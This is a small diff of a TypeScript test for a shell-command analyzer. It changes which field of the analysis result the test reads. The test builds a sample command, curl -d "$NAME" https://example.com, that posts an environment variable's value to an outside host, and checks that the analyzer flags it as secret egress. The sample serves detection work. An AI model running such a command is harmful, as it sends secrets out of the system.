@@ -25,7 +25,7 @@ after(() => w.dispose());
 
 /** What each user of the definition says of a variable called `name`. */
 function answers(name: string): { sandbox: boolean; shell: boolean; redaction: boolean } {
-  const v = analyzeShell(`curl -d "$${name}" https://example.com`, env).verdict;
+  const v = analyzeShell(`curl -d "$${name}" https://example.com`, env).strictest;
   return {
     sandbox: droppedBecause(name, "plain") === "name",
     shell: v.reason === "secret-egress",
